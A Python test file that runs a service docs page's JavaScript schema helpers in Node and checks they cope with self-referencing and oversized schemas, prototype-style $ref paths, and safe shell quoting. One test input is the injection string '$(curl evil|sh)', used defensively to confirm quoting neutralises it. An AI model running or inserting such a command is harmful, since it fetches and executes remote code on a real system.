"""The pure functions of the docs page, in Node: they read schemas that the owner of a service writes."""

import json
import shutil
import subprocess
from importlib.resources import files

import pytest

NODE = shutil.which("node") or ""
pytestmark = pytest.mark.skipif(not NODE, reason="node is not in PATH")

SCRIPT = (
    files("serviceexecution.gateway.service_api.description")
    .joinpath("docs_page.html")
    .read_text("utf-8")
    .partition("<script>")[2]
    .partition("</script>")[0]
)
PURE = SCRIPT.partition("/* A schema is what")[2].partition("function rows(")[0]
QUOTED = SCRIPT.partition("const quoted =")[2].partition("\n")[0]
PROGRAM = f"""/* {PURE}
const quoted ={QUOTED}
const {{ call, argument, root }} = JSON.parse(require("fs").readFileSync(0, "utf8"));
const calls = {{ sample: () => sample(argument, root), kindOf: () => kindOf(argument, root),
                 properties: () => properties(argument, root), quoted: () => quoted(argument) }};
console.log(JSON.stringify(calls[call]()));
"""


def page(call, argument, root=None):
    """Return what a function of the page returns; a page that hangs or overflows fails."""
    asked = json.dumps({"call": call, "argument": argument, "root": root or {}})
    done = subprocess.run(
        [NODE, "-e", PROGRAM], input=asked, capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def schemas(**named):
    return {"components": {"schemas": named}}


def ref(name):
    return {"$ref": f"#/components/schemas/{name}"}


LIST = {"type": "array", "items": ref("T")}
FAN = {"anyOf": [ref("T")] * 50}
TREE = {"type": "object", "properties": {"left": ref("T"), "right": ref("U")}, "required": ["left", "right"]}
OTHER = {"type": "array", "minItems": 3, "items": ref("T")}


@pytest.mark.parametrize("call", ["sample", "kindOf", "properties"])
@pytest.mark.parametrize(
    ("first", "second"),
    [(LIST, OTHER), (FAN, LIST), (TREE, OTHER), (ref("U"), ref("T")), (ref("T"), {})],
    ids=["list of itself", "fan", "mutual", "circle", "own name"],
)
def test_a_schema_that_holds_itself_has_a_page(call, first, second):
    root = schemas(T=first, U=second)
    assert len(json.dumps(page(call, {"type": "object", "properties": {"x": ref("T")}}, root))) < 100_000
    assert len(json.dumps(page(call, ref("T"), root))) < 100_000


def test_an_example_is_small_however_many_items_there_must_be():
    bomb: dict[str, object] = {"type": "number"}
    for _ in range(6):
        bomb = {"type": "array", "minItems": 1_000_000, "items": bomb}
    assert len(json.dumps(page("sample", {"type": "object", "properties": {"x": bomb}}))) < 50_000


def test_a_table_is_short_however_many_properties_there_are():
    wide = {"type": "object", "properties": {f"p{number}": {"type": "string"} for number in range(300)}}
    schema = {"type": "object", "properties": {f"q{number}": wide for number in range(300)}}
    assert len(page("properties", schema)) == 400
    many = {"enum": ["x" * 5000] * 5000}
    assert len(page("kindOf", many)) < 3000


def test_what_is_short_is_shown_whole():
    schema = {
        "type": "object",
        "properties": {
            "values": {"type": "array", "minItems": 2, "items": {"type": "number"}},
            "level": {"enum": ["a", "b"]},
            "more": {"anyOf": [{"type": "null"}, ref("Ü")], "description": "What more there is"},
        },
        "required": ["values"],
    }
    root = schemas(Ü={"type": "object", "properties": {"deep": {"type": "integer"}}})
    assert page("sample", schema, root) == {"values": [1.5, 1.5], "level": "a", "more": {}}
    shown = page("properties", schema, root)
    assert [(one["name"], one["needed"], one["kind"]) for one in shown] == [
        ("values", True, "array of number"),
        ("level", False, '"a", "b"'),
        ("more", False, "null or object"),
    ]
    assert page("kindOf", {"$ref": "#/components/schemas/%C3%9C"}, root) == "object"
    for odd in ("#/components/schemas/%zz", "#/constructor/prototype", "#/__proto__", "#/components/x/y/z"):
        assert page("kindOf", {"$ref": odd}, root) == "anything"


@pytest.mark.parametrize("text", ["a'b", "$(curl evil|sh)", "`x`", "a b", "a;b", "@file name", "\n", "", "é"])
def test_a_line_for_a_shell_holds_one_word(text):
    done = subprocess.run(["sh", "-c", f"printf %s {page('quoted', text)}"], capture_output=True, check=True)
    assert done.stdout.decode() == text
